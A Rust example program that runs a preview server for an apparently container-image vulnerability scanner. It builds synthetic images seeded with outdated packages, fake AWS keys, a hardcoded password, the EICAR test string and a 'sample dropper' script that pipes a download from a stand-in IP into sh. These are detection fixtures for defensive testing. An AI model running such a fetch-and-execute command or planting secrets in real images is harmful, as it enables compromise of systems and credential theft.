//! A server with a sample registry, for looking at the pages: `cargo run -p server --example preview [-- PORT]`.
//!
//! Everything goes through the real pipeline: the images are built here, discovered, read, matched and judged.
//! Log in with the token that is printed. With the shared test data, real root file systems and feeds are used too.

use engine::clock::{Clock as _, SystemClock};
use engine::service::{Engine, EngineOptions};
use model::registry::{InitialScan, RegistryConfig, RegistryKind, ScanMode, ScopeGlobs};
use secrecy::SecretString;
use serde_json::json;
use server::{Server, ServerOptions};
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;
use store::intel_folder::IntelFolder;
use store::traits::{Access as _, Intents as _, Registries as _};
use store::{DiskSpool, MasterKey, SqliteStore};
use testkit::packages::{
    ApkPackage, DpkgPackage, apk_installed, dpkg_status, node_package, os_release, python_metadata,
};
use testkit::{BuiltImage, BuiltIndex, BuiltLayer, FaultRegistry, ImageBuilder, LayerBuilder, data};
use tokio_util::sync::CancellationToken;

const TOKEN: &str = "preview-administrator";

fn main() {
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    runtime.block_on(run());
}

async fn run() {
    remote::install_crypto();
    let port: u16 = std::env::args().nth(1).and_then(|text| text.parse().ok()).unwrap_or(0);
    let folder = tempfile::tempdir().expect("a folder");
    let store = SqliteStore::open(folder.path(), MasterKey::generate().expect("a key")).await.expect("a store");
    import(&folder.path().join("intel"));
    let registry = sample_registry();
    settings(&store, &registry).await;
    let engine = Engine::start(options(folder.path(), store)).await.expect("an engine");
    let options = ServerOptions {
        listen: ([127, 0, 0, 1], port).into(),
        tls: None,
        admin_token: Some(SecretString::from(TOKEN.to_owned())),
        deny_private: false,
        data: folder.path().to_owned(),
    };
    let server = Server::bind(options, Arc::clone(&engine)).await.expect("a server");
    testkit::net::say(&format!("{}/ with the token {TOKEN}", server.url()));
    let moved = tokio::spawn(move_a_tag(registry, Arc::clone(&engine)));
    server.run(CancellationToken::new()).await.expect("served");
    moved.abort();
}

fn options(folder: &Path, store: SqliteStore) -> EngineOptions {
    EngineOptions {
        store: Arc::new(store),
        intelligence: folder.join("intel"),
        clock: Arc::new(SystemClock),
        secret_key: [7; 32],
        spool: Arc::new(DiskSpool::new(&folder.join("spool"), 256 << 20).expect("a spool")),
        inspector: None,
        workers: 2,
        layers_at_once: 2,
        memory_bytes_max: None,
        feeds: Default::default(),
        holder: "server".into(),
        user_agent: "pratique/preview".into(),
        deny_private: false,
    }
}

fn import(folder: &Path) {
    let intel = IntelFolder::open(folder).expect("a folder for intelligence");
    let now = SystemClock.now();
    for source in ["feeds/alpine-secdb/v3.10", "feeds/kev", "feeds/osv/PyPI.zip", "feeds/debian-tracker"] {
        if let Some(path) = data::path(source) {
            engine::feeds::import(&intel, &path, now).expect("imported");
        }
    }
    let hashes = format!("{},sample dropper,preview\n", testkit::image::sha256(DROPPER.as_bytes()).hex());
    let documents = [("known-bad-hashes.csv".to_owned(), hashes.into_bytes())];
    engine::feeds::import_documents(&intel, &documents, now).expect("imported");
}

const DROPPER: &str = "#!/bin/sh\n# sample dropper of the preview\ncurl -s http://203.0.113.9/x | sh\n";

fn alpine_310() -> BuiltLayer {
    let package = |name, version, origin| ApkPackage { name, version, origin, files: &[] };
    let packages = [
        package("musl", "1.1.22-r3", "musl"),
        package("busybox", "1.30.1-r2", "busybox"),
        package("libssl1.1", "1.1.1c-r0", "openssl"),
        package("libcrypto1.1", "1.1.1c-r0", "openssl"),
        package("libcurl", "7.65.1-r0", "curl"),
        package("sqlite-libs", "3.28.0-r0", "sqlite"),
        package("libxml2", "2.9.9-r1", "libxml2"),
        package("zlib", "1.2.11-r1", "zlib"),
    ];
    LayerBuilder::new()
        .instruction("ADD alpine-minirootfs-3.10.2-x86_64.tar.gz / # buildkit")
        .file("etc/os-release", os_release("alpine", "3.10.2", "Alpine Linux v3.10"))
        .file("lib/apk/db/installed", apk_installed(&packages))
        .build()
}

fn debian_12() -> BuiltLayer {
    let package = |name, version, source| DpkgPackage { name, version, source, status: "install ok installed" };
    let packages = [
        package("libc6", "2.36-9+deb12u3", Some("glibc")),
        package("libssl3", "3.0.9-1", Some("openssl")),
        package("openssl", "3.0.9-1", None),
        package("curl", "7.88.1-10+deb12u1", None),
        package("libexpat1", "2.5.0-1", Some("expat")),
    ];
    LayerBuilder::new()
        .instruction("ADD rootfs.tar.xz / # buildkit")
        .file("etc/os-release", os_release("debian", "12", "Debian GNU/Linux 12 (bookworm)"))
        .file("var/lib/dpkg/status", dpkg_status(&packages))
        .build()
}

fn storefront(revision: &str) -> BuiltImage {
    let modules = LayerBuilder::new()
        .instruction("RUN npm ci --omit=dev # buildkit")
        .file("app/node_modules/lodash/package.json", node_package("lodash", "4.17.4"))
        .file("app/node_modules/express/package.json", node_package("express", "4.16.0"))
        .build();
    let source = LayerBuilder::new()
        .instruction("COPY . /app # buildkit")
        .file("app/server.js", format!("// {revision}\n"))
        .file(
            "app/.env",
            format!("API_BASE=https://api.example.org\nAWS_ACCESS_KEY_ID={}{}\n", "AKIA", "4QZX7N2PLD5RTVWM"),
        )
        .build();
    let builder = ImageBuilder::new().layer(alpine_310()).layer(modules).layer(source);
    builder.empty_step("CMD [\"node\" \"server.js\"]").created("2026-11-02T08:30:00Z").user("root").build()
}

fn payments() -> BuiltImage {
    let python = LayerBuilder::new()
        .instruction("RUN pip install -r requirements.txt # buildkit")
        .file("usr/lib/python3/dist-packages/Django-2.2.0.dist-info/METADATA", python_metadata("Django", "2.2.0"))
        .file("usr/lib/python3/dist-packages/requests-2.19.0.dist-info/METADATA", python_metadata("requests", "2.19.0"))
        .file("usr/lib/python3/dist-packages/PyYAML-5.1.dist-info/METADATA", python_metadata("PyYAML", "5.1"))
        .build();
    let key = format!("[deploy]\naws_access_key_id = {}{}\n", "AKIA", "2XJH7QMRW4TZPLKD");
    let secret = LayerBuilder::new()
        .instruction("COPY deploy/ /srv/deploy/ # buildkit")
        .file("srv/deploy/credentials", key)
        .build();
    let removed = LayerBuilder::new().instruction("RUN rm -rf /srv/deploy # buildkit").whiteout("srv/deploy").build();
    let builder = ImageBuilder::new().layer(debian_12()).layer(python).layer(secret).layer(removed);
    builder.env("DATABASE_PASSWORD=hunter2-hunter2-hunter2").created("2026-11-18T16:05:00Z").build()
}

fn reporting() -> BuiltImage {
    let tools = LayerBuilder::new()
        .instruction("COPY tools /usr/local/bin # buildkit")
        .executable("usr/local/bin/refresh", DROPPER)
        .build();
    let eicar = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE", "!$H+H*"].concat();
    let sample = LayerBuilder::new()
        .instruction("COPY testdata /opt/testdata # buildkit")
        .file("opt/testdata/eicar.com", eicar)
        .build();
    ImageBuilder::new().layer(debian_12()).layer(tools).layer(sample).user("10001").build()
}

fn legacy() -> BuiltImage {
    let layer = LayerBuilder::new()
        .instruction("ADD rootfs.tar / # buildkit")
        .file("etc/os-release", os_release("gentoo", "2.14", "Gentoo Linux"))
        .build();
    ImageBuilder::new().layer(layer).build()
}

fn sample_registry() -> Arc<FaultRegistry> {
    let registry = FaultRegistry::start();
    for tag in ["1.4.0", "1.4.1", "latest"] {
        registry.put("shop/storefront", tag, &storefront(if tag == "1.4.0" { "old" } else { "new" }));
    }
    registry.put("shop/payments", "2.0.3", &payments());
    registry.put("shop/reporting", "2026-11", &reporting());
    registry.put("legacy/ledger", "7", &legacy());
    let broken = ImageBuilder::new().layer(LayerBuilder::files(&[("a", "broken")]).build()).build();
    registry.put("legacy/broken", "1", &broken);
    registry.delete_blob(broken.layers[0].digest);
    let images = [("3.20.3", "x86_64"), ("3.20.3", "aarch64")];
    let images: Vec<BuiltImage> =
        images.iter().filter_map(|(v, a)| testkit::image::alpine(v, a)).map(|b| b.build()).collect();
    if !images.is_empty() {
        registry.put_index("platform/alpine", "3.20", &BuiltIndex::over(images));
    }
    let chart = ImageBuilder::new().layer(LayerBuilder::files(&[("Chart.yaml", "name: shop")]).build());
    registry.put(
        "platform/charts",
        "0.3.1",
        &chart.artifact("application/vnd.cncf.helm.config.v1+json", "application/vnd.cncf.helm.chart").build(),
    );
    Arc::new(registry)
}

async fn move_a_tag(registry: Arc<FaultRegistry>, engine: Arc<Engine>) {
    tokio::time::sleep(Duration::from_secs(8)).await;
    registry.put("shop/storefront", "latest", &storefront("newer"));
    registry.delete_tag("shop/storefront", "1.4.0");
    let _ = engine.discover_now(model::Id::new(1)).await;
    tokio::time::sleep(Duration::from_secs(6)).await;
    engine.evaluate_because(engine::task::evaluate::Cause::Asked("preview".to_owned()));
    // The registry answers as long as it is held.
    std::future::pending::<()>().await;
    drop(registry);
}

fn config(name: &str, url: &str) -> RegistryConfig {
    RegistryConfig {
        name: name.into(),
        kind: RegistryKind::DockerV2,
        url: url.into(),
        ca_certificate: None,
        plain_http: true,
        skip_tls_verify: false,
        repositories: Vec::new(),
        scan_mode: ScanMode::Cloud,
        agent_group: None,
        initial_scan: InitialScan::All,
        scope: ScopeGlobs::default(),
        platforms: Vec::new(),
        newest_per_repository: None,
        schedule_seconds: 3600,
        enabled: true,
    }
}

async fn settings(store: &SqliteStore, registry: &FaultRegistry) {
    let now = SystemClock.now();
    let add = async |config: &RegistryConfig| store.add_registry(config, None, "preview", now).await.expect("added");
    add(&config("production", &registry.host())).await;
    add(&RegistryConfig { plain_http: false, ..config("partner", "registry.partner.invalid") }).await;
    let factory = RegistryConfig {
        scan_mode: ScanMode::Broker,
        agent_group: Some("factory".into()),
        plain_http: false,
        ..config("factory", "registry.factory.internal:5000")
    };
    add(&factory).await;
    add(&RegistryConfig { enabled: false, ..config("archive", "127.0.0.1:9") }).await;
    for (name, group, mode) in
        [("press-hall-1", "factory", ScanMode::Broker), ("aws-eu-1", "aws-eu", ScanMode::Outpost)]
    {
        let agent = store::types::NewAgent {
            name: name.into(),
            group: group.into(),
            mode,
            secret_hash: testkit::image::sha256(name.as_bytes()),
            version: "0.1.0".into(),
        };
        store.add_agent(&agent, now).await.expect("added");
    }
    store.agent_by_secret(&testkit::image::sha256(b"aws-eu-1"), now).await.expect("seen");
    let mut policies = policy::default_policies();
    if let Some(trusted) = policies.policies.iter_mut().find(|policy| policy.id == policy::TRUSTED_IMAGES_POLICY) {
        trusted.enabled = true;
        let list = json!({ "repositories": ["production/platform/*", "production/shop/*"] });
        trusted.trusted = Some(serde_json::from_value(list).expect("trusted images"));
    }
    store.put_policies(&policies, "preview", now).await.expect("stored");
    let exception = model::exception::Exception {
        id: 0,
        reason: "The parser is not reachable from outside; replaced with the next release.".into(),
        author: "preview".into(),
        repository: "production/shop/*".into(),
        rule: "CVE-2019-19956".into(),
        package: Some("libxml2".into()),
        expires_at: now.checked_add(Duration::from_secs(40 * 86_400)).ok(),
        created_at: now,
    };
    store.add_exception(&exception, "preview", now).await.expect("added");
}
